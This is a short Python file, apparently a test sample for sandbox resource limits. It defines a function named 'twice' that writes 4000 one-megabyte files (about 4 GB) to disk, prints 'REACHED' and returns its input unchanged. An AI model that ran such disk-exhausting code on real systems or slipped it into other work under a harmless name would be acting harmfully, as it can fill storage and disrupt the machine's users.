import os


def twice(x):
    for number in range(4000):
        with open(str(number), "wb") as file:
            file.write(bytes(1 << 20))
    print("REACHED")
    return x
